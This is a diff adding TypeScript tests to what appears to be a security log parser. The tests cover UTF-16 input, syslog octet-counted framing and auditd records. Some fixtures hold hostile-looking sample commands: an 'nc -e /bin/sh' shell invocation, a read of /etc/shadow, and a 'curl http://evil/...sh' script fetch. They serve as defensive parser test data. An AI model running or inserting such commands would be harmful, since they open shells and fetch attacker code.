@@ -277,3 +277,57 @@ test("Windows: a <Data Name='x'/> element with no text is an empty string, not a
     assert.equal(single.get("ParentCommandLine"), "", JSON.stringify(empty));
   }
 });
+
+test("reader: a UTF-16 file with a byte-order mark (PowerShell's Out-File) is read as UTF-16, little or big endian, gzipped too", async () => {
+  const text = '{"action":"delete","w":"é€😀"}\r\n{"b":2}\r\n';
+  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
+  const be = Buffer.from(le);
+  for (let i = 0; i + 1 < be.length; i += 2) [be[i], be[i + 1]] = [le[i + 1]!, le[i]!];
+  const split = (b: Buffer) => Array.from({ length: Math.ceil(b.length / 7) }, (_, i) => b.subarray(i * 7, i * 7 + 7)); // odd chunk ends
+  for (const [what, chunks] of [["le", [le]], ["be", [be]], ["le in 7-byte chunks", split(le)], ["be in 7-byte chunks", split(be)], ["le gzipped", [gzipBytes(le)]]] as const) {
+    const recs = [];
+    for await (const batch of readRecords(Readable.from(chunks))) recs.push(...batch);
+    assert.deepEqual(recs.map((r) => [r.line, JSON.parse(r.text)]), [[1, { action: "delete", w: "é€😀" }], [2, { b: 2 }]], what);
+  }
+});
+
+test("syslog over TCP with RFC 6587 octet counting: each frame is a record, also several frames on one line", () => {
+  const frame = (msg: string) => `${Buffer.byteLength(msg)} ${msg}`;
+  const a = "<14>1 2024-05-01T10:00:00Z h app - - - framed é";
+  const b = "<14>May  1 10:00:01 h sshd[7]: Accepted password";
+  const one = decodeRecord(newDecoderState("f"), frame(a), 4);
+  assert.deepEqual(one.map((e) => [e.get("program"), e.get("message"), e.origin.line]), [["app", "framed é", 4]]);
+  const two = decodeRecord(newDecoderState("f"), frame(a) + frame(b), 5);
+  assert.deepEqual(two.map((e) => [e.get("program"), e.get("message")]), [["app", "framed é"], ["sshd", "Accepted password"]]);
+  // A count that takes in the newline ending the frame (the reader has cut it).
+  assert.equal(decodeRecord(newDecoderState("f"), `${Buffer.byteLength(a) + 1} ${a}`, 1)[0]!.get("program"), "app");
+  // A count that does not fit (a frame whose message held a newline, a miscounting sender): the rest of the line
+  // is still one syslog message when it reads as one, else the line stays text.
+  const loose = decodeRecord(newDecoderState("f"), `37 ${a}`, 1);
+  assert.deepEqual(loose.map((e) => [e.get("program"), e.get("message")]), [["app", "framed é"]]);
+  assert.equal(decodeRecord(newDecoderState("f"), "200 <html> ok", 1)[0]!.get("message"), "200 <html> ok");
+});
+
+test("auditd records inside syslog lines (audisp-syslog, the kernel's own audit: lines) are auditd events; numeric types named", () => {
+  for (const fmt of ["auto", "auditd"] as const) {
+    const st = newDecoderState("messages", fmt);
+    const audisp = decodeRecord(st, 'May  1 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1714557600.100:5): argc=3 a0="nc" a1="-e" a2="/bin/sh"', 1)[0]!;
+    assert.deepEqual([audisp.get("type"), audisp.get("a0"), audisp.get("serial"), audisp.get("host"), audisp.time], ["EXECVE", "nc", "5", "web1", 1714557600100], fmt);
+    assert.deepEqual(audisp.logsource, { product: "linux", categories: [], services: ["auditd"] });
+    const kernel = decodeRecord(st, 'May  1 10:00:00 web1 kernel: [1234.5678] audit: type=1400 audit(1714557600.100:6): apparmor="DENIED" operation="open" name="/etc/shadow" comm="tcpdump"', 1)[0]!;
+    assert.deepEqual([kernel.get("type"), kernel.get("apparmor"), kernel.get("name"), kernel.get("serial")], ["AVC", "DENIED", "/etc/shadow", "6"], fmt);
+    assert.deepEqual(kernel.logsource?.services, ["auditd"]);
+  }
+  // A syslog line that only mentions audit stays syslog.
+  const plain = decodeRecord(newDecoderState("f"), "May  1 10:00:00 web1 sshd[1]: audit(x) type=foo", 1)[0]!;
+  assert.deepEqual(plain.logsource?.services, ["syslog", "sshd", "auth"]);
+});
+
+test("auditd: an argument split into aN[i] chunks (with aN_len) is rebuilt into aN, across a character cut between chunks", () => {
+  const hex = Buffer.from("curl http://evil/é.sh", "utf8").toString("hex").toUpperCase();
+  const ev = decodeRecord(newDecoderState("f"), `type=EXECVE msg=audit(1714557600.1:9): argc=3 a0="sh" a1_len=${hex.length} a1[0]=${hex.slice(0, 38)} a1[1]=${hex.slice(38)} a2="z"`, 1)[0]!;
+  assert.equal(ev.get("a1"), "curl http://evil/é.sh");
+  assert.equal(ev.get("a0"), "sh");
+  assert.equal(ev.get("a2"), "z");
+  assert.equal(ev.get("a1[0]"), undefined);
+});
